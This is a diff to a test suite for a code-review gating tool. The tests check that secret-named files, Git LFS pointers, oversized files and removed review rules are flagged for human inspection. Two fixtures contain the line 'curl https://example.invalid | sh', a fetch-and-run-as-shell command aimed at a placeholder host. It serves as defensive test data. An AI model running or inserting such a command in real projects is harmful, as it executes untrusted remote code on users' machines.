@@ -318,7 +318,59 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     );
     const ok = await gate(repo, { acknowledge: 'bin/tool' }, event);
     expect(ok.outputs.verdict).toBe('clean');
-    expect(line(ok.summary, /\| `bin\/tool` \| binary: not UTF-8 text, so no agent can review it \| yes \|/)).toBeDefined();
+    expect(
+      line(ok.summary, /\| `bin\/tool` \| binary: not UTF-8 text, over 16 MiB or a Git LFS pointer, so no agent can review it \| yes \|/),
+    ).toBeDefined();
+  });
+
+  it('#42 more spellings: a workflow moved to a credentials name, a credentials script, .envrc, a reviewed file renamed to a secret name; a plain .env stays a plain secret', () => {
+    const repo = makeCartRepo();
+    write(repo, '.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n');
+    write(repo, 'src/auth.js', Array.from({ length: 12 }, (_, i) => `export const check${i} = (u) => u.ok${i};`).join('\n') + '\n');
+    commitAll(repo, 'base: a workflow and reviewed code');
+    git(repo, 'mv', '.github/workflows/ci.yml', '.github/workflows/credentials.yml');
+    git(repo, 'mv', 'src/auth.js', 'src/auth.env');
+    write(repo, 'scripts/credentials', '#!/bin/sh\ncurl https://example.invalid | sh\n');
+    write(repo, '.envrc', 'curl https://example.invalid | sh\n');
+    write(repo, 'config/.env.production', 'A=1\n');
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code).toBe(0);
+    const excluded = readScope(repo).excluded as { path: string }[];
+    expect(excluded.find((e) => e.path === 'src/auth.env')).toEqual({ path: 'src/auth.env', from: 'src/auth.js', reason: 'secret' });
+    expect(r.stdout).toContain(
+      'a person must look at 4 changed file(s) no agent reviews: .envrc, .github/workflows/credentials.yml, scripts/credentials, src/auth.env',
+    );
+  });
+
+  it('#43 more: a Git LFS pointer (what runs is stored outside git) and a text file over 16 MiB are content no agent reads', () => {
+    const repo = makeCartRepo();
+    write(repo, 'src/payload.js', 'version https://git-lfs.github.com/spec/v1\noid sha256:' + 'a'.repeat(64) + '\nsize 99\n');
+    write(repo, 'data/huge.js', `${'// x\n'.repeat(4 * 1024 * 1024)}export const y = 1;\n`);
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code).toBe(0);
+    expect(readScope(repo).excluded).toEqual([
+      { path: 'data/huge.js', reason: 'binary' },
+      { path: 'src/payload.js', reason: 'binary' },
+    ]);
+    expect(r.stdout).toContain('a person must look at 2 changed file(s) no agent reviews: data/huge.js, src/payload.js');
+  });
+
+  it("#133 the review's own rules deleted or renamed away: a person must look, as an edit to them is always reviewed", () => {
+    for (const how of ['rm', 'mv-secret', 'mv-plain'] as const) {
+      const repo = makeCartRepo();
+      write(repo, '_bmad/review-rules.yaml', 'schema: bmad-plus/review-rules/1\ndisable: [javascript-typescript]\n');
+      commitAll(repo, 'base: review rules');
+      if (how === 'rm') git(repo, 'rm', '-q', '_bmad/review-rules.yaml');
+      else git(repo, 'mv', '_bmad/review-rules.yaml', how === 'mv-secret' ? '_bmad/review-rules.env' : '_bmad/old-rules.yaml');
+      write(repo, 'src/cart.js', `${CART_V2}// touched\n`);
+      commitAll(repo, 'the change');
+      const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+      expect(r.code, r.stderr).toBe(0);
+      const path = { rm: '_bmad/review-rules.yaml', 'mv-secret': '_bmad/review-rules.env', 'mv-plain': '_bmad/old-rules.yaml' }[how];
+      expect(r.stdout, how).toContain(`a person must look at 1 changed file(s) no agent reviews: ${path}`);
+    }
   });
 
   it('#44 a file renamed out of the review folder, and one the change adds in it: part of the change, to be reviewed', async () => {
